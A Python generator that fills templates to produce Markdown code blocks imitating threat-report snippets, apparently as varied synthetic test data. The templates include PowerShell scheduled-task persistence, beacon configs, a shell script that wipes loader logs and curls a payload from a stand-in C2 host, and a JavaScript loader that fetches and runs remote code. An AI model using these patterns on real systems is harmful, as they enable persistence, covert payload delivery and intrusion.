"""Code of the kinds that reports quote, each block with values of its own: no two are alike, so no cache by content flatters a
generator. In goes the stream of random numbers and which kind it is to be, out comes a fenced block of Markdown.
"""
import random

POWERSHELL = """\
$action = New-ScheduledTaskAction -Execute 'C:\\ProgramData\\{word}\\update.exe' -Argument '-q -p {number}'
$trigger = New-ScheduledTaskTrigger -Daily -At 03:{minute}
Register-ScheduledTask -TaskName 'Sync{number}' -Action $action -Trigger $trigger -Force
$bytes = [Convert]::FromBase64String((Get-Content "$env:TEMP\\{word}.dat"))
for ($i = 0; $i -lt $bytes.Length; $i++) {{ $bytes[$i] = $bytes[$i] -bxor 0x{byte} }}
if ($bytes.Length -gt {number}) {{
    [IO.File]::WriteAllBytes("$env:APPDATA\\{word}.bin", $bytes)  # second stage
}}
"""
PYTHON = '''\
import base64
from dataclasses import dataclass

@dataclass
class Beacon:
    """Settings of one sample."""
    host: str = "{word}.c2.example"
    sleep: int = {number}

def decode(blob: bytes, key: int = 0x{byte}) -> bytes:
    # one byte key, then base64
    return bytes(value ^ key for value in base64.b64decode(blob))
'''
JSON = """\
{{
  "id": {number},
  "beacon": true,
  "jitter": 0.{minute},
  "sleep": 300,
  "user_agent": null,
  "hosts": ["{word}.c2.example", "192.0.2.{minute}"],
  "paths": {{"get": "/{word}/{byte}", "post": "/submit.php"}}
}}
"""
SHELL = """\
#!/bin/sh
# clears what the loader left
for file in /tmp/{word}-*.log; do
  count=$(grep -c 'error {number}' "$file")
  if [ "$count" -gt {minute} ]; then
    rm -f -- "$file" && echo "removed $file"
  fi
done
curl --silent https://{word}.c2.example/{byte} | base64 -d > "/var/tmp/{word}"
"""
SIGMA = """\
title: Scheduled task {number} of {word}
status: experimental
logsource:
  product: windows
  service: security
detection:
  selection:
    EventID: 4698
    TaskName|contains: 'Sync{number}'
  filter:
    SubjectUserSid: S-1-5-{minute}
  condition: selection and not filter
level: high
"""
JAVASCRIPT = """\
// loader on the page, deobfuscated
const key = 0x{byte};
async function load(path = "/{word}/{number}") {{
  const reply = await fetch(`https://{word}.c2.example${{path}}`, {{ method: "POST" }});
  if (!reply.ok) return null;
  const text = await reply.text();
  return [...text].map((sign) => String.fromCharCode(sign.charCodeAt(0) ^ key)).join("");
}}
load().then((code) => code && setTimeout(code, {number}));
"""
BLOCKS = [
    ("powershell", POWERSHELL),
    ("python", PYTHON),
    ("json", JSON),
    ("sh", SHELL),
    ("yaml", SIGMA),
    ("javascript", JAVASCRIPT),
]


def code_block(rng: random.Random, which: int) -> str:
    """A fenced block in one of the languages."""
    language, text = BLOCKS[which]
    filled = text.format(
        word="".join(rng.choice("abcdefghijklmnoprstuvwxyz") for _ in range(7)),
        number=rng.randint(100, 9999),
        minute=rng.randint(10, 59),
        byte=f"{rng.randint(16, 255):02X}",
    )
    return f"```{language}\n{filled}```\n"
